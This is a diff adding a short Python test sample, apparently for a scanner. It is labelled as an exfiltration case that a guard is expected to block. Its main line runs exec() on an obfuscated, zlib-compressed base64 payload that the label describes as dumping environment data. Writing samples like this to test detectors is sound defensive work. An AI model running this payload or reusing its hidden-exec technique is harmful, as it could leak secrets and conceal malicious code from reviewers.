@@ -1,0 +1,3 @@
+# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/environment_dump.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJw9jk0OgjAQhfc9xaRuaEIKSFxIwik8AbFjQGindgYMMd5dFuDu5cv7O8ENg2OQHuHd04SAYRkSBY9BIBMaMXAOI65sQAg6YEwLJqsGHykJEB8qTp08KHl1gISvGVlYqditE3UOWvjonlh083fbQA4zk4PehjfuhrtkxHa/Yb7qqLFxS2a6F4ncFMW5rG1pq6q21wJ1Dk+m0O5DOcjgkWZpL+YHFh9NVw==')))
